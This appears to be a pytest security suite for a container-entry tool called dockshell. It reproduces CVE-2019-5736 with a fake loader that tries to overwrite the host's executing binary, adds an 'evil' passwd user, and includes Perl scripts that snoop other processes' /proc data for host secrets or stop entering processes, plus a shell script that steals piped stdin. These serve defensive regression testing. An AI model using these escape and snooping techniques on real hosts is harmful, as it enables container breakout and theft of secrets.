"""Root in a default container against who enters it: its program, what it shows, and what holds it up. With each attack
stands what shows that it is one, where nothing guards."""

from __future__ import annotations

import contextlib
import hashlib
import os
import shutil
import signal
import socket
import subprocess
import sys
import sysconfig
from collections.abc import Callable, Iterator, Mapping
from pathlib import Path
from typing import IO

import pytest

from dockshell.linux.calls import Calls
from dockshell.linux.sealed import BASE, sealed
from tests.conftest import COMMAND
from tests.contract.watching import end_all, processes, unique, until
from tests.world import Peer, World

Run = Callable[..., "subprocess.CompletedProcess[bytes]"]

# CVE-2019-5736 by a script: its interpreter is whatever program executes it, and that one's loader is the container's.
# What the loader leaves running holds the program's file, and tries to write to it as soon as nobody executes it. It
# writes nothing here.
_LEFT = """
readlink /proc/self/fd/3 >>/tmp/result
for each in $(seq 100); do
    (: >>/proc/self/fd/3) 2>/dev/null && { echo writable >>/tmp/result; break; }
    sleep 0.1
done &
"""
# Enters by plain system calls, as a program of the host's that then executes the script.
_PLAIN = """
import ctypes, os, sys
libc = ctypes.CDLL(None)
places = [os.open(f"/proc/{sys.argv[1]}/ns/{kind}", os.O_RDONLY) for kind in ("pid", "mnt")]
for place in places:
    if libc.setns(place, 0):
        sys.exit("setns")
if os.fork() == 0:
    os.execv("/attack", ["/attack"])
"""


def _loader() -> bytes:
    """A static program: opens /proc/self/exe, as 3, and becomes a shell."""
    calls = Calls()
    for number in range(3, 20):
        calls.add("close", number, allowed=(1 << 64) - 1)
    calls.add("openat", -100, b"/proc/self/exe\0", os.O_PATH)
    calls.add("execve", b"/bin/sh\0", [b"sh\0", b"-c\0", _LEFT.encode() + b"\0", 0], [b"PATH=/bin\0", 0])
    program = sealed(calls.image(BASE))
    with open(program, "rb") as file:
        return file.read()


def _hash(path: str) -> str:
    return hashlib.sha256(Path(path).read_bytes()).hexdigest()


def _prepared(peer: Peer) -> str:
    """A container whose root has laid out the attack."""

    def make() -> str:
        name = peer.run("busybox")
        script = r"""
            mkdir -p /lib64 /tmp; cat >/lib64/ld-linux-x86-64.so.2; chmod 755 /lib64/*; ln -s /proc/self/exe /link
            printf '#!/proc/self/exe\n' >/attack; printf '#!/link\n' >/second; chmod 755 /attack /second
            cp /attack /bin/attack; echo evil:x:77:77::/:/attack >>/etc/passwd
        """
        peer.sh("exec", "-i", name, "sh", "-c", script, input=_loader())
        return name

    return peer.kept("overwriting", make)


def _result(peer: Peer, name: str, script: str = ":") -> str:
    return peer.sh("exec", name, "sh", "-c", f"cat /tmp/result; {script}", check=False).stdout.decode()


def test_a_program_of_the_hosts_that_executes_can_be_overwritten(docker: Peer, world: World, tmp_path: Path) -> None:
    """The control: a copy of Python enters by system calls, and root inside gets to write to it."""
    world.need_root()
    name, copy = _prepared(docker), tmp_path / "python-copy"
    shutil.copy(os.path.realpath(sys.executable), copy)
    env = {"PYTHONHOME": sys.base_prefix, "LD_LIBRARY_PATH": sysconfig.get_config_var("LIBDIR") or ""}
    subprocess.run([str(copy), "-S", "-c", _PLAIN, str(docker.pid(name))], env=env, check=True)
    told = until(lambda: "writable" in _result(docker, name) and _result(docker, name, "rm /tmp/result"))
    assert told.endswith("/python-copy\nwritable\n")


ENTRIES: dict[str, tuple[str, ...]] = {
    "script": ("exec", "--via", "nsenter", "NAME", "/attack"),
    "script-in-path": ("exec", "--via", "nsenter", "NAME", "attack"),
    "link": ("exec", "--via", "nsenter", "NAME", "/link"),
    "script-of-a-link": ("exec", "--via", "nsenter", "NAME", "/second"),
    "login-shell": ("shell", "--via", "nsenter", "-u", "evil", "NAME"),
    "detached": ("exec", "--via", "nsenter", "-d", "NAME", "/attack"),
    "toolbox": ("exec", "--via", "toolbox", "NAME", "/attack"),
    "user": ("exec", "--via", "nsenter", "-u", "evil", "NAME", "/attack"),
}


@pytest.mark.parametrize("way", ENTRIES)
def test_the_program_that_enters_can_not_be_overwritten(engine: Peer, dockshell: Run, world: World, way: str) -> None:
    """CVE-2019-5736: whatever is executed, and by whatever way in, the file that executes it is none of the host's."""
    world.need_root()
    name, before = _prepared(engine), _hash(sys.executable)
    dockshell(*(name if word == "NAME" else word for word in ENTRIES[way]), engine=engine)
    assert _result(engine, name) == ""  # the container's loader, which would hold the program, was never asked for
    assert _hash(sys.executable) == before


# Reads of every process that is about to be what anybody may read of another's: its arguments, the mounts and the
# sockets that it sees, its environment, its program.
_WATCHER = r"""
$| = 1; $SIG{TERM} = sub { exit }; my %said;
sub seen { my $line = join " ", @_; print "$line\n" unless $said{$line}++ }
print "begun\n";
my $last = $$;
while (1) {
    for my $p ($last - 3 .. $last + 6) {
        next if $p == $$ || $p < 2 || !-e "/proc/$p";
        $last = $p if $p > $last;
        for (["cmdline", qr/SECRET-VALUE/], ["mountinfo", qr/HOSTS-MOUNT/], ["net/tcp", qr/:HOSTS-PORT /]) {
            open my $h, "<", "/proc/$p/$$_[0]" or next;
            local $/; my $all = <$h>;
            seen($$_[0]) if defined $all && $all =~ $$_[1];
        }
    }
}
"""


@contextlib.contextmanager
def _watched(peer: Peer, name: str, user: str, script: str) -> Iterator[tuple[IO[bytes], str]]:
    """Runs that script of perl inside, by the engine → its output, past its first line, and a word that it is known
    by."""
    word = unique()
    argv = [*peer.cli, "exec", "-u", user, name, "perl", "-e", script, word]
    env = {**os.environ, **peer.env}
    with subprocess.Popen(argv, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, env=env) as process:
        try:
            assert process.stdout and process.stdout.readline() == b"begun\n"
            yield process.stdout, word
        finally:
            end_all(word, signal.SIGTERM)


@contextlib.contextmanager
def _on_the_host(world: World, tmp_path: Path) -> Iterator[str]:
    """The watcher, told of a mount and a listening port that only the host has."""
    mark = tmp_path / f"mark-{unique()}"
    mark.mkdir()
    with socket.create_server(("127.0.0.1", 0)) as server:
        subprocess.run(["mount", "-t", "tmpfs", "none", str(mark)], check=True)
        try:
            port = f"{server.getsockname()[1]:04X}"
            yield _WATCHER.replace("HOSTS-MOUNT", mark.name).replace("HOSTS-PORT", port)
        finally:
            subprocess.run(["umount", str(mark)], check=True)


def test_who_joins_the_processes_first_shows_the_host(docker: Peer, world: World, tmp_path: Path) -> None:
    """The control: a process of the host's that joins the pid namespace alone."""
    world.need_root()
    world.need_program("nsenter")
    name = docker.shared("baseimage")
    with _on_the_host(world, tmp_path) as watcher, _watched(docker, name, "nobody", watcher) as (seen, word):
        argv = ["nsenter", "--target", str(docker.pid(name)), "--pid", "sh", "-c", "sleep 2; : SECRET-VALUE"]
        subprocess.run(argv, check=True)
        end_all(word, signal.SIGTERM)
        assert set(seen.read().split()) == {b"cmdline", b"mountinfo", b"net/tcp"}


@pytest.mark.parametrize("user", ["root", "nobody"])
def test_who_enters_shows_nothing_of_the_host(
    docker: Peer, environment: Mapping[str, str], world: World, tmp_path: Path, user: str
) -> None:
    """No mount, no socket and no argument of the host's, to anybody inside, by nsenter, the toolbox, `services` or a
    server of files."""
    world.need_root()
    name = docker.shared("baseimage")
    env = {**environment, "DOCKER_HOST": docker.url}
    commands = (
        *12 * [["exec", "--via", "nsenter", "-e", "TOKEN=SECRET-VALUE", name, "true"]],
        *4 * [["exec", "--via", "toolbox", "-e", "TOKEN=SECRET-VALUE", name, "true"]],
        *2 * [["services", "-e", "TOKEN=SECRET-VALUE", name]],
    )
    with _on_the_host(world, tmp_path) as watcher, _watched(docker, name, user, watcher) as (seen, word):
        for each in commands:
            subprocess.run([*COMMAND, *each], env=env, check=False, capture_output=True)
        end_all(word, signal.SIGTERM)
        assert seen.read() == b""


# Stops whoever comes in before it is the command. The last field of loadavg is the number that was given last.
_STOPPER = r"""
$| = 1; $SIG{TERM} = sub { exit }; $SIG{ALRM} = sub { print "nobody\n"; exit }; alarm 60; print "begun\n";
my $done = $$;
while (1) {
    open my $l, "<", "/proc/loadavg"; my ($last) = <$l> =~ /(\d+)$/;
    for my $p (($done < $last ? $done + 1 : $last + 1) .. $last + 3) {
        next unless kill STOP => $p;
        $done = $p;
        open my $h, "<", "/proc/$p/cmdline"; local $/; my $words = <$h>;
        if ($words =~ /^dockshell/) { print "stopped $p\n"; exit } else { kill CONT => $p; print "late $words\n" }
    }
}
"""


@pytest.mark.parametrize("number", [signal.SIGINT, signal.SIGTERM, signal.SIGHUP, signal.SIGQUIT, signal.SIGKILL])
def test_who_is_stopped_while_entering_holds_up_no_signal(
    docker: Peer, environment: Mapping[str, str], world: World, number: signal.Signals
) -> None:
    """Something inside stops the newcomer before it is the command: dockshell ends by the signal all the same, and
    nothing that it started is left, inside or outside."""
    world.need_root()
    name, word = docker.shared("baseimage"), unique()
    env = {**environment, "DOCKER_HOST": docker.url}
    with _watched(docker, name, "root", _STOPPER) as (seen, _):
        for _ in range(40):
            argv = [*COMMAND, "exec", "--via", "nsenter", name, "sleep", word]
            with subprocess.Popen(argv, env=env, stdin=subprocess.DEVNULL, stderr=subprocess.PIPE) as process:
                stopped = seen.readline()
                if stopped.startswith(b"late"):
                    process.terminate()
                    continue
                inside = int(stopped.split()[1])
                assert process.poll() is None  # the control: it waits for who is stopped
                process.send_signal(number)
                assert process.wait(60) in (-number, 128 + number)
                until(lambda: not processes(word))
                gone = f"test ! -e /proc/{inside} || grep -q '^State:.Z' /proc/{inside}/status"
                docker.sh("exec", name, "sh", "-c", f"until {gone}; do sleep 0.1; done")
                return
    raise AssertionError("nobody was stopped in time")


@pytest.mark.parametrize("number", [signal.SIGINT, signal.SIGTERM, signal.SIGHUP, signal.SIGQUIT])
def test_a_command_that_is_stopped_inside_hears_a_signal(
    docker: Peer, environment: Mapping[str, str], world: World, number: signal.Signals
) -> None:
    """Something inside has stopped it; the signal that is to end it does."""
    world.need_root()
    name, word = docker.shared("busybox"), unique()
    argv = [*COMMAND, "exec", "--via", "nsenter", name, "sleep", word]
    env = {**environment, "DOCKER_HOST": docker.url}
    with subprocess.Popen(argv, env=env, stdin=subprocess.DEVNULL) as process:
        (pid,) = until(lambda: processes(word))
        inside = Path(f"/proc/{pid}/status").read_text().partition("NSpid:")[2].split()[1]
        docker.sh("exec", name, "kill", "-STOP", inside)
        until(lambda: "State:\tT" in Path(f"/proc/{pid}/status").read_text())
        process.send_signal(number)
        assert process.wait(60) == 128 + number


def test_a_container_that_is_frozen_holds_up_no_signal(
    engine: Peer, environment: Mapping[str, str], world: World
) -> None:
    """dockshell ends by the signal, and the command as soon as the container goes on."""
    world.need_root()
    name, word = engine.run("busybox"), unique()
    argv = [*COMMAND, "exec", "--via", "nsenter", name, "sleep", word]
    env = {**environment, "DOCKER_HOST": engine.url}
    with subprocess.Popen(argv, env=env, stdin=subprocess.DEVNULL) as process:
        until(lambda: processes(word))
        engine.sh("pause", name)
        try:
            process.terminate()
            assert process.wait(60) == 128 + signal.SIGTERM
            assert processes(word)  # the control: it is frozen, and can't end
        finally:
            engine.sh("unpause", name)
    until(lambda: not processes(word))


def test_a_program_is_executed_by_who_may(engine: Peer, dockshell: Run, world: World) -> None:
    """A file that is root's alone is not executed for another user, whose rights those of root in the container are not
    (the engines' exec does execute it); root, and who may, execute it."""
    world.need_root()
    name = engine.run("busybox")
    engine.sh("exec", name, "sh", "-c", "mkdir /own; cp /bin/busybox /own/echo")
    for mode, user, code in ("700", "1000", 126), ("700", "0", 0), ("755", "1000", 0):
        engine.sh("exec", name, "chmod", mode, "/own/echo")
        done = dockshell("exec", "--via", "nsenter", "-u", user, name, "/own/echo", "ran", engine=engine)
        assert (done.returncode, done.stdout) == (code, b"" if code else b"ran\n"), (mode, user, done)


_WITH_A_ZERO = """
import sys
from dockshell import connect
done = connect(sys.argv[1], via="nsenter").run(["echo", "half\\0whole"])
print(done.code, done.stdout)
"""


def test_half_an_argument_is_none(docker: Peer, environment: Mapping[str, str], world: World) -> None:
    """The kernel ends an argument at its first zero: one with more behind is refused, not cut."""
    world.need_root()
    argv = [sys.executable, "-P", "-c", _WITH_A_ZERO, docker.shared("busybox")]
    done = subprocess.run(argv, env={**environment, "DOCKER_HOST": docker.url}, capture_output=True, check=True)
    assert done.stdout == b"126 b''\n", done


# What a command leaves behind: once that has ended, it writes to stdout, and takes what is still to come on stdin.
_LEAVES = """
exec 3<&0
setsid sh -c 'until test -e /tmp/over; do sleep 0.1; done; (echo forged); head -n1 <&3 >/tmp/stolen; echo >/tmp/done' &
read line; echo "$line"
"""


def _piped(argv: list[str], env: Mapping[str, str], peer: Peer, name: str) -> tuple[bytes, bytes, bytes]:
    """Runs it in the middle of a pipeline that goes on → what came out, in all; what is left of the input for who comes
    next; what was stolen."""
    peer.sh("exec", name, "rm", "-f", "/tmp/over", "/tmp/done", "/tmp/stolen")
    source, into = os.pipe()
    out, output = os.pipe()
    os.write(into, b"one\n")
    with subprocess.Popen(argv, env={**os.environ, **env}, stdin=source, stdout=output) as process:
        assert process.wait(60) == 0
    os.close(output)
    os.write(into, b"two\nthree\n")
    peer.sh("exec", name, "sh", "-c", "touch /tmp/over; until test -e /tmp/done; do sleep 0.1; done", timeout=60)
    os.close(into)
    with open(out, "rb") as file, open(source, "rb") as rest:
        return file.read(), rest.read(), peer.sh("exec", name, "cat", "/tmp/stolen").stdout


def test_a_shared_pipe_is_used_by_what_stays(docker: Peer, world: World) -> None:
    """The control: the pipes of who enters by plain system calls are read and written after his command has ended."""
    world.need_root()
    world.need_program("nsenter")
    name = docker.run("busybox", options=["--tmpfs", "/tmp"])
    argv = ["nsenter", "--target", str(docker.pid(name)), "--mount", "--pid", "sh", "-c", _LEAVES]
    out, rest, stolen = _piped(argv, {"PATH": "/bin"}, docker, name)
    assert out == b"one\nforged\n" and stolen == b"two\n" and b"two" not in rest


@pytest.mark.parametrize("via", ["nsenter", "toolbox", "exec"])
def test_no_pipe_of_the_callers_is_used_by_what_stays(
    engine: Peer, environment: Mapping[str, str], world: World, via: str
) -> None:
    """Nothing is written after the session's end, and what comes on stdin is for who reads it next."""
    world.need_root()
    name = engine.run("busybox", options=["--tmpfs", "/tmp"])
    env = {**environment, "DOCKER_HOST": engine.url}
    out, rest, stolen = _piped([*COMMAND, "exec", "--via", via, name, "sh", "-c", _LEAVES], env, engine, name)
    assert (out, rest, stolen) == (b"one\n", b"two\nthree\n", b"")
